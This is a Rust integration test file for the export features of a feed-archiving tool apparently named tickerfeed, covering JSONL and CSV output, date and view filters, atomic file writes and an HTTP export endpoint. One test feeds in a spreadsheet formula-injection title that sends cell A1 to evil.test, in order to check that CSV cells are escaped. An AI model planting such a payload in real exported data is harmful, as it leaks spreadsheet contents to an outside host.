//! Exports (issue 19): `tickerfeed export` and `/export.jsonl` on a real
//! archive made by the real binary polling loopback feeds and a replayed
//! quote provider: what each line carries, the CSV header, `--since`,
//! `--view`, clear errors, `--out` written atomically, and the HTTP
//! switch.

use std::path::Path;
use std::time::Duration;

use serde_json::Value;

use crate::util::*;

const AAPL: &str = include_str!("../fixtures/quotes/yahoo/chart_AAPL_range5d.json");
const VOD: &str = include_str!("../fixtures/quotes/yahoo/chart_VOD.L_pence.json");

/// The documented CSV header (docs/export.md), spelled out so that a
/// change to it is a visible change to this test too.
const CSV_HEADER: &str = "id,uid,title,url,canonical_url,guid,feed,published_at,updated_at,first_seen_at,changed_at,sort_at,revision,authors,categories,summary_text,content_text,sources,mentions,snapshot_label,snapshot_taken_at,snapshot_quotes,reactions,enclosures,author_emails";

fn json_reply(body: &str) -> Reply {
    Reply::feed(body).header("content-type", "application/json")
}

const WIRE: &[(&str, &str, &str)] = &[
    (
        "https://wire.test/apple",
        "Apple ($AAPL) beats estimates",
        "https://wire.test/apple",
    ),
    ("w2", "Vodafone cuts prices", "https://wire.test/vodafone"),
    ("w3", "Quiet day in the markets", "https://wire.test/quiet"),
];

/// A loopback server with two feeds (the Apple story in both) and the
/// Yahoo chart payloads, and a config with a `[market]` and a view.
async fn setup(extra: &str) -> (FeedServer, TestDir) {
    let server = FeedServer::start().await;
    server.set("/v8/finance/chart/AAPL", json_reply(AAPL));
    server.set("/v8/finance/chart/VOD.L", json_reply(VOD));
    // The Vodafone story signed as RSS signs it: an address, the name in
    // brackets.
    server.set(
        "/wire.xml",
        Reply::feed(rss("Wire", WIRE).replace(
            "<title>Vodafone cuts prices</title>",
            "<title>Vodafone cuts prices</title><author>desk@wire.test (Wire Desk)</author>",
        )),
    );
    server.set(
        "/blog.xml",
        Reply::feed(rss(
            "Blog",
            &[(
                "b1",
                "Apple ($AAPL) beats estimates",
                "https://wire.test/apple",
            )],
        )),
    );
    let dir = TestDir::new();
    dir.write_config(&format!(
        r#"{}{}
[market]
label = "NASDAQ - LSE"
provider = "yahoo"
schedule = "*/5 * * * *"
base_url = "{}"
symbols = [
  {{ symbol = "AAPL", name = "Apple", names = ["Apple Inc."] }},
  {{ symbol = "VOD", provider_symbol = "VOD.L", names = ["Vodafone"] }},
]

[[views]]
name = "apple"
symbols = ["AAPL"]
{extra}"#,
        feed_block("wire", &server.url("/wire.xml"), "schedule = \"@hourly\""),
        feed_block("blog", &server.url("/blog.xml"), "schedule = \"@hourly\""),
        server.url(""),
    ));
    (server, dir)
}

fn lines(jsonl: &str) -> Vec<Value> {
    jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

fn titled<'a>(lines: &'a [Value], prefix: &str) -> &'a Value {
    lines
        .iter()
        .find(|l| l["title"].as_str().unwrap().starts_with(prefix))
        .unwrap_or_else(|| panic!("no line titled {prefix}: {lines:#?}"))
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn jsonl_lines_carry_sources_mentions_and_the_snapshot() {
    let (_server, dir) = setup("").await;
    let (code, out, err) = cli(&dir, &["poll"]).await;
    assert_eq!(code, 0, "{out}{err}");

    let (code, out, err) = cli(&dir, &["export", "--format", "jsonl"]).await;
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("exported 3 items to stdout"), "{err}");
    let all = lines(&out);
    assert_eq!(all.len(), 3, "{out}");
    // Archive order: ids ascending.
    let ids: Vec<i64> = all.iter().map(|l| l["id"].as_i64().unwrap()).collect();
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "{ids:?}");
    for l in &all {
        assert_eq!(l["schema_version"], 1);
        assert_eq!(l["reactions"], Value::Null, "reactions are never made up");
        assert_eq!(l["uid"].as_str().unwrap().len(), 32);
    }

    let apple = titled(&all, "Apple");
    let mut feeds: Vec<&str> = apple["sources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["feed"].as_str().unwrap())
        .collect();
    feeds.sort();
    assert_eq!(feeds, ["blog", "wire"], "{apple:#}");
    let matched: Vec<&str> = apple["sources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["matched_by"].as_str().unwrap())
        .collect();
    assert!(matched.contains(&"new"), "{matched:?}");
    assert_eq!(apple["mentions"], serde_json::json!(["AAPL"]));
    assert_eq!(apple["url"], "https://wire.test/apple");
    let snap = &apple["snapshot"];
    assert_eq!(snap["label"], "NASDAQ - LSE");
    assert_eq!(snap["taken_at"], apple["first_seen_at"]);
    let lead = &snap["quotes"][0];
    assert_eq!(
        (
            &lead["symbol"],
            &lead["price"],
            &lead["currency"],
            &lead["mentioned"]
        ),
        (
            &Value::from("AAPL"),
            &Value::from("328.879"),
            &Value::from("USD"),
            &Value::from(true)
        ),
        "{snap:#}"
    );
    // London pence became pounds, as in the archive.
    assert_eq!(snap["quotes"][1]["price"], "1.1575");

    let vodafone = titled(&all, "Vodafone");
    assert_eq!(vodafone["mentions"], serde_json::json!(["VOD"]));
    assert_eq!(vodafone["snapshot"]["quotes"][0]["symbol"], "VOD");
    assert_eq!(vodafone["authors"], serde_json::json!(["Wire Desk"]));
    assert_eq!(
        vodafone["author_emails"],
        serde_json::json!(["desk@wire.test"])
    );
    // The analyst's view has it too, as its last column.
    assert_eq!(
        dir.column::<Option<String>>(
            "SELECT author_emails FROM v_items WHERE title LIKE 'Vodafone%'"
        ),
        [Some(r#"["desk@wire.test"]"#.to_string())]
    );
    assert_eq!(
        dir.column::<String>("SELECT name FROM pragma_table_info('v_items') ORDER BY cid DESC")[0],
        "author_emails"
    );
    let quiet = titled(&all, "Quiet");
    assert_eq!(quiet["mentions"], serde_json::json!([]));
    assert_eq!(quiet["author_emails"], serde_json::json!([]));
    assert_eq!(quiet["sources"].as_array().unwrap().len(), 1);
    assert_eq!(quiet["guid"], "w3");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_has_the_documented_header_and_flattened_cells() {
    let (_server, dir) = setup("").await;
    assert_eq!(cli(&dir, &["poll"]).await.0, 0);
    let (code, out, err) = cli(&dir, &["export", "--format", "csv"]).await;
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with(&format!("{CSV_HEADER}\r\n")), "{out}");
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header.join(","), CSV_HEADER);
    assert_eq!(header, tickerfeed::render::export::CSV_COLUMNS);
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 3);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let apple = records
        .iter()
        .find(|r| r[col("title")].starts_with("Apple"))
        .unwrap();
    let mut sources: Vec<&str> = apple[col("sources")].split(';').collect();
    sources.sort();
    assert_eq!(sources, ["blog", "wire"]);
    assert_eq!(&apple[col("mentions")], "AAPL");
    assert_eq!(&apple[col("snapshot_label")], "NASDAQ - LSE");
    let quotes: Value = serde_json::from_str(&apple[col("snapshot_quotes")]).unwrap();
    assert_eq!(quotes[0]["symbol"], "AAPL");
    assert_eq!(quotes[0]["price"], "328.879");
    assert_eq!(&apple[col("reactions")], "");
    // The item is the first feed's to record it (the polls run at once);
    // its guid is that feed's.
    let origin = (&apple[col("feed")], &apple[col("guid")]);
    assert!(
        origin == ("wire", "https://wire.test/apple") || origin == ("blog", "b1"),
        "{origin:?}"
    );
    let quiet = records
        .iter()
        .find(|r| r[col("title")].starts_with("Quiet"))
        .unwrap();
    assert_eq!(&quiet[col("mentions")], "");
    assert_eq!(&quiet[col("author_emails")], "[]");
    let vodafone = records
        .iter()
        .find(|r| r[col("title")].starts_with("Vodafone"))
        .unwrap();
    assert_eq!(&vodafone[col("author_emails")], r#"["desk@wire.test"]"#);
}

/// A feed's text that a spreadsheet would run as a formula: opening
/// `items.csv` in Excel or LibreOffice made this title a live link that
/// sends the sheet's cell A1 to evil.test. The CSV cell now starts with
/// `'`, so it is shown as text; a signed number stays a number, a
/// normal title is untouched, and JSONL keeps the publisher's text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote() {
    const FORMULA: &str = r#"=HYPERLINK("https://evil.test/?x="&A1,"Open")"#;
    let server = FeedServer::start().await;
    server.set(
        "/f.xml",
        Reply::feed(rss(
            "F",
            &[
                ("f1", &FORMULA.replace('&', "&amp;"), "https://f.test/1"),
                ("f2", "-3.2% for oil", "https://f.test/2"),
                ("f3", "-3.2", "https://f.test/3"),
                ("@SUM(1+1)", "Oil steady", "https://f.test/4"),
            ],
        )),
    );
    let dir = TestDir::new();
    dir.write_config(&feed_block("f", &server.url("/f.xml"), ""));
    let (code, out, err) = cli(&dir, &["poll"]).await;
    assert_eq!(code, 0, "{out}{err}");

    let (code, out, err) = cli(&dir, &["export", "--format", "csv"]).await;
    assert_eq!(code, 0, "{err}");
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let cells: Vec<(String, String)> = reader
        .records()
        .map(Result::unwrap)
        .map(|r| (r[col("title")].to_string(), r[col("guid")].to_string()))
        .collect();
    let title_of = |guid: &str| {
        cells
            .iter()
            .find(|(_, g)| g.trim_start_matches('\'') == guid)
            .unwrap_or_else(|| panic!("no record with guid {guid}: {cells:?}"))
            .0
            .as_str()
    };
    assert_eq!(title_of("f1"), format!("'{FORMULA}"));
    // Not a number: Excel reads it as the formula `=-3.2% for oil`.
    assert_eq!(title_of("f2"), "'-3.2% for oil");
    assert_eq!(title_of("f3"), "-3.2", "a signed number is left as it is");
    assert_eq!(title_of("@SUM(1+1)"), "Oil steady");
    assert!(
        cells.iter().any(|(_, g)| g == "'@SUM(1+1)"),
        "the guid is guarded too: {cells:?}"
    );

    let (code, out, err) = cli(&dir, &["export"]).await;
    assert_eq!(code, 0, "{err}");
    let all = lines(&out);
    assert_eq!(titled(&all, "=HYPERLINK")["title"], FORMULA, "JSONL is raw");
    assert_eq!(titled(&all, "Oil steady")["guid"], "@SUM(1+1)");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn since_and_view_filter_and_bad_arguments_say_which() {
    let (server, dir) = setup("").await;
    assert_eq!(cli(&dir, &["poll"]).await.0, 0);
    // A poll may straddle a second: its items' first times run from
    // `earliest` to `first`.
    let (earliest, first): (String, String) = dir
        .db()
        .query_row(
            "SELECT min(first_seen_at), max(first_seen_at) FROM items",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    // Times are whole seconds: the next poll's items are a second later.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let mut wire = WIRE.to_vec();
    wire.push(("w4", "Apple Inc. opens a store", "https://wire.test/store"));
    server.set("/wire.xml", Reply::feed(rss("Wire", &wire)));
    assert_eq!(cli(&dir, &["poll"]).await.0, 0);

    let count = |out: &str| out.lines().count();
    let (_, all, _) = cli(&dir, &["export"]).await;
    assert_eq!(count(&all), 4);
    let (_, out, _) = cli(&dir, &["export", "--since", "2000-01-01"]).await;
    assert_eq!(count(&out), 4);
    let (_, out, _) = cli(&dir, &["export", "--since", "2999-01-01"]).await;
    assert_eq!(count(&out), 0);
    let (_, out, _) = cli(&dir, &["export", "--since", &earliest]).await;
    assert_eq!(count(&out), 4, "an item first seen at --since is in");
    let later =
        chrono::DateTime::parse_from_rfc3339(&first).unwrap() + chrono::Duration::seconds(1);
    let (code, out, err) = cli(&dir, &["export", "--since", &later.to_rfc3339()]).await;
    assert_eq!(code, 0, "{err}");
    let new = lines(&out);
    assert_eq!(new.len(), 1, "{out}");
    assert_eq!(new[0]["title"], "Apple Inc. opens a store");

    // The view's selection, the same as /views/apple.atom.
    let (code, out, err) = cli(&dir, &["export", "--view", "apple"]).await;
    assert_eq!(code, 0, "{err}");
    let mut titles: Vec<String> = lines(&out)
        .iter()
        .map(|l| l["title"].as_str().unwrap().to_string())
        .collect();
    titles.sort();
    assert_eq!(
        titles,
        ["Apple ($AAPL) beats estimates", "Apple Inc. opens a store"]
    );
    let (_, out, _) = cli(
        &dir,
        &["export", "--view", "apple", "--since", &later.to_rfc3339()],
    )
    .await;
    assert_eq!(count(&out), 1);
    let (_, out, _) = cli(&dir, &["export", "--view", "apple", "--format", "csv"]).await;
    assert_eq!(
        csv::Reader::from_reader(out.as_bytes()).records().count(),
        2
    );

    let (code, out, err) = cli(&dir, &["export", "--since", "yesterday"]).await;
    assert_ne!(code, 0);
    assert!(out.is_empty(), "{out}");
    assert!(
        err.contains("'yesterday' for '--since <SINCE>': not a date like 2026-11-24"),
        "{err}"
    );
    let (code, out, err) = cli(&dir, &["export", "--view", "nope"]).await;
    assert_ne!(code, 0);
    assert!(out.is_empty(), "{out}");
    assert!(
        err.contains("no view is named \"nope\"") && err.contains("views: apple"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn out_is_written_whole_or_not_at_all() {
    let (_server, dir) = setup("").await;
    assert_eq!(cli(&dir, &["poll"]).await.0, 0);
    let exports = dir.path().join("exports");
    std::fs::create_dir(&exports).unwrap();
    let target = exports.join("items.csv");
    let target_arg = target.to_str().unwrap();

    let (code, _, err) = cli(&dir, &["export", "--format", "csv", "--out", target_arg]).await;
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains(&format!("exported 3 items to {target_arg}")),
        "{err}"
    );
    let (_, stdout, _) = cli(&dir, &["export", "--format", "csv"]).await;
    assert_eq!(std::fs::read_to_string(&target).unwrap(), stdout);
    assert_eq!(files_in(&exports), ["items.csv"], "no temporary file left");

    // A failed export leaves what was there and no half file beside it.
    for bad in [&["--view", "nope"][..], &["--since", "soon"][..]] {
        let mut args = vec!["export", "--out", target_arg];
        args.extend_from_slice(bad);
        let (code, _, _) = cli(&dir, &args).await;
        assert_ne!(code, 0);
        assert_eq!(std::fs::read_to_string(&target).unwrap(), stdout);
        assert_eq!(files_in(&exports), ["items.csv"]);
    }
    let fresh = exports.join("fresh.jsonl");
    let (code, _, _) = cli(
        &dir,
        &["export", "--view", "nope", "--out", fresh.to_str().unwrap()],
    )
    .await;
    assert_ne!(code, 0);
    assert!(!fresh.exists());
    // Where the file cannot be created: an error naming it, nothing written.
    let missing = exports.join("no/such/dir/x.jsonl");
    let (code, _, err) = cli(&dir, &["export", "--out", missing.to_str().unwrap()]).await;
    assert_ne!(code, 0);
    assert!(err.contains("no/such/dir"), "{err}");
    assert_eq!(files_in(&exports), ["items.csv"]);
}

/// The lines of a JSONL export without their `reactions`: the running
/// daemon plans reactions for the mentions it finds (README "Price
/// reactions"), which a one-shot export before it started had not.
fn without_reactions(jsonl: &str) -> Vec<Value> {
    jsonl
        .lines()
        .map(|l| {
            let mut v: Value = serde_json::from_str(l).unwrap();
            v.as_object_mut().unwrap().remove("reactions");
            v
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_export_is_404_when_off_and_streams_the_same_lines_when_on() {
    let (_server, dir) = setup("").await;
    assert_eq!(cli(&dir, &["poll"]).await.0, 0);
    let (_, exported, _) = cli(&dir, &["export"]).await;
    let (_, cli_view, _) = cli(&dir, &["export", "--view", "apple"]).await;

    // The feeds were just polled and are hourly: the daemon archives
    // nothing new while the test compares.
    let mut d = crate::process::Running::start_with(&dir, &[]);
    let addr = d.wait_for_listen();
    let get = |path: &str| reqwest::get(format!("http://{addr}{path}"));

    let off = get("/export.jsonl").await.unwrap();
    assert_eq!(off.status(), 404, "off by default");

    let config = std::fs::read_to_string(dir.config_path()).unwrap();
    std::fs::write(
        dir.config_path(),
        format!("{config}\n[web]\nexport = true\n"),
    )
    .unwrap();
    d.signal("HUP");
    d.wait_for("config reloaded");

    let on = get("/export.jsonl").await.unwrap();
    assert_eq!(on.status(), 200);
    let header = |name: &str| {
        on.headers()
            .get(name)
            .map(|v| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    };
    assert_eq!(
        header("transfer-encoding"),
        "chunked",
        "streamed, no length"
    );
    assert!(header("content-type").starts_with("application/jsonl"));
    assert_eq!(
        header("content-disposition"),
        "attachment; filename=\"tickerfeed.jsonl\""
    );
    assert_eq!(
        without_reactions(&on.text().await.unwrap()),
        without_reactions(&exported)
    );

    let view = get("/export.jsonl?view=apple&since=2000-01-01")
        .await
        .unwrap();
    assert_eq!(view.status(), 200);
    assert_eq!(
        without_reactions(&view.text().await.unwrap()),
        without_reactions(&cli_view)
    );
    let none = get("/export.jsonl?since=2999-01-01T00:00:00Z")
        .await
        .unwrap();
    assert_eq!(none.text().await.unwrap(), "");

    // An offset's `+` typed as is (form encoding makes it a space): the
    // documented `--since` form works in the URL too.
    let offset = get("/export.jsonl?since=2000-01-01T10:00:00+01:00")
        .await
        .unwrap();
    assert_eq!(offset.status(), 200);
    assert_eq!(
        without_reactions(&offset.text().await.unwrap()),
        without_reactions(&exported)
    );
    let later = get("/export.jsonl?since=2999-01-01T10:00:00+01:00")
        .await
        .unwrap();
    assert_eq!(later.text().await.unwrap(), "");

    let bad = get("/export.jsonl?since=yesterday").await.unwrap();
    assert_eq!(bad.status(), 400);
    assert!(bad.text().await.unwrap().contains("since=\"yesterday\""));
    let unknown = get("/export.jsonl?view=nope").await.unwrap();
    assert_eq!(unknown.status(), 404);
    assert!(unknown.text().await.unwrap().contains("view=\"nope\""));

    d.signal("TERM");
    assert_eq!(d.wait_exit(), 0, "{}", d.log.join("\n"));
}
